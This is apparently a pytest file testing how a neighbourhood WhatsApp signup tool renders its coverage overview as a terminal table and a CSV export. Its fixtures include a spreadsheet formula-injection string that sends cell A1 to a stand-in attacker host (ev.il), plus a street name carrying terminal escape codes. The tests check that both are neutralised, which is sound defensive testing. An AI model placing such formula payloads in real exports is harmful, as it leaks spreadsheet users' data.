"""``infra/maintain report`` (report.py): the overview as a terminal table and as CSV. The
command itself, against an emulator: tests/integration/test_overview.py."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from buurtwhatsapp.common.spreadsheet_cells import restore
from buurtwhatsapp.model import OverviewInputs, SignupRow
from buurtwhatsapp.overview.counts import build_overview
from buurtwhatsapp.overview.report import CSV_FIELDS, write_csv, write_table

FORMULA_STREET = '=HYPERLINK("https://ev.il/?"&A1,"klik")'
ESCAPE_STREET = "Laan\x1b[2J van\x07 Zoë"


def row(status: str, street: str, number: str, group: str | None = None) -> SignupRow:
    return SignupRow(status, street, number, "2158AB", group)


@pytest.fixture
def overview(deployment):
    rows = (
        row("active", "Kagerdreef", "1", "dorp"),
        row("active", "Kagerdreef", "2", "dorp"),
        row("confirmed", "Lisserweg", "500", "dorp"),
        row("pending", FORMULA_STREET, "3"),
        row("confirmed", ESCAPE_STREET, "4"),  # no group had room
    )
    return build_overview(deployment, OverviewInputs(rows, {"dorp": 3, "buitengebied": 0}, 2, 1))


def table(overview) -> str:
    out = io.StringIO()
    write_table(
        overview, out, title="Buurt WhatsApp Buitenkaag", at=datetime(2026, 11, 26, 9, tzinfo=UTC)
    )
    return out.getvalue()


def test_the_table_shows_each_area_street_group_and_figure(overview):
    text = table(overview)
    lines = text.splitlines()
    assert lines[0] == (
        "Buurt WhatsApp Buitenkaag: overview (dekking) at 2026-11-26 09:00 UTC; counts only"
    )

    def numbers(label: str) -> list[str]:
        [line] = [line for line in lines if line.strip().startswith(label)]
        return line[len("  ") + 40 :].split()

    assert numbers("Kagerdreef") == ["2", "0", "0", "2", "5%", "of", "40", "households"]
    assert numbers("Lisserweg 480–530")[:4] == ["0", "1", "0", "1"]
    assert numbers("Dorpsstraat 1–49 (oneven nummers)")[:6] == [
        "0",
        "0",
        "0",
        "0",
        "no",
        "members;",
    ]
    assert numbers("all areas") == ["2", "2", "1", "5"]
    assert numbers("Buurt WhatsApp Buitenkaag Dorp") == ["3", "1024", "1%", "add", "1"]
    assert "Streets without members: 1" in lines
    assert "  Buitenkaag dorp: Dorpsstraat 1–49 (oneven nummers)" in lines
    assert "Confirmed, but no group could take them: 1" in lines
    assert "Open coordinator applications: 2" in lines
    assert "Failed mail: 1  (infra/maintain mail failed)" in lines
    # The numbers end where their column's name ends.
    header = next(line for line in lines if line.startswith("Buitenkaag dorp"))
    kagerdreef = next(line for line in lines if line.startswith("  Kagerdreef"))
    assert header.endswith("total") and kagerdreef[: len(header)].endswith(" 2")
    assert kagerdreef[len(header) :].startswith("  5% of 40")  # notes after the numbers


def test_the_table_prints_no_terminal_control_characters(overview):
    text = table(overview)
    assert "\x1b" not in text and "\x07" not in text
    assert "Laan\N{REPLACEMENT CHARACTER}[2J van\N{REPLACEMENT CHARACTER} Zoë" in text


def read_csv(overview) -> list[dict[str, str]]:
    out = io.StringIO()
    rows = write_csv(overview, out)
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(parsed) == rows
    return parsed


def test_the_csv_has_a_row_per_street_area_group_and_figure(overview):
    rows = read_csv(overview)
    assert list(rows[0]) == list(CSV_FIELDS)
    streets = {r["name"]: r for r in rows if r["kind"] == "street"}
    assert streets["Kagerdreef"] == {
        "kind": "street",
        "area": "Buitenkaag dorp",
        "name": "Kagerdreef",
        "active": "2",
        "confirmed": "0",
        "pending": "0",
        "total": "2",
        "seats_taken": "",
        "capacity": "",
        "households": "40",  # as the example deployment file gives them
        "participation_percent": "5",
        "ready_for_signs": "no",
    }
    assert streets["Dorpsstraat 1–49 (oneven nummers)"]["total"] == "0"
    [dorp] = [r for r in rows if r["kind"] == "area" and r["area"] == "Buitenkaag dorp"]
    assert (dorp["active"], dorp["confirmed"], dorp["total"]) == ("2", "1", "3")
    groups = {r["name"]: (r["seats_taken"], r["capacity"]) for r in rows if r["kind"] == "group"}
    assert groups == {
        "Buurt WhatsApp Buitenkaag Dorp": ("3", "1024"),
        "Buurt WhatsApp Buitenkaag Buitengebied": ("0", "1024"),
    }
    figures = {r["kind"]: r["total"] for r in rows if r["kind"] not in ("street", "area", "group")}
    assert figures == {
        "total": "5",
        "without_group": "1",
        "open_applications": "2",
        "failed_mail": "1",
    }


def test_a_street_typed_as_a_formula_is_text_in_a_spreadsheet_and_restorable(overview):
    rows = read_csv(overview)
    names = [r["name"] for r in rows if r["kind"] == "street"]
    assert "'" + FORMULA_STREET in names
    assert FORMULA_STREET not in names
    [cell] = [name for name in names if name.endswith(FORMULA_STREET)]
    assert restore(cell) == FORMULA_STREET  # the cell as read back from the CSV


@pytest.fixture
def counted(deployment):
    """The village with households for two of its three streets (30% signs threshold)."""
    from dataclasses import replace

    dorp = deployment.areas[0]
    streets = (
        replace(dorp.streets[0], households=5),  # Kagerdreef: 2 active of 5 = 40%
        replace(dorp.streets[1], households=10),  # Lisserweg 480–530: 0 active (1 confirmed)
        replace(dorp.streets[2], households=None),  # Dorpsstraat: not given
    )
    village = replace(deployment, areas=(replace(dorp, streets=streets),))
    rows = (
        row("active", "Kagerdreef", "1", "dorp"),
        row("active", "Kagerdreef", "2", "dorp"),
        row("confirmed", "Lisserweg", "500", "dorp"),
    )
    return build_overview(village, OverviewInputs(rows, {"dorp": 3}, 0, 0))


def test_participation_is_shown_only_where_households_are_given(counted):
    streets = {r["name"]: r for r in read_csv(counted) if r["kind"] == "street"}
    kagerdreef = streets["Kagerdreef"]
    assert (kagerdreef["households"], kagerdreef["participation_percent"]) == ("5", "40")
    assert kagerdreef["ready_for_signs"] == "yes"
    lisserweg = streets["Lisserweg 480–530"]
    assert (lisserweg["participation_percent"], lisserweg["ready_for_signs"]) == ("0", "no")
    assert streets["Dorpsstraat 1–49 (oneven nummers)"]["households"] == ""
    [area] = [
        r for r in read_csv(counted) if r["kind"] == "area" and r["area"] == "Buitenkaag dorp"
    ]
    assert area["households"] == ""  # one street without a count: the area's is unknown
    text = table(counted)
    assert "40% of 5 households, ready for signs" in text
    assert "0% of 10 households" in text and "0% of 10 households, ready" not in text
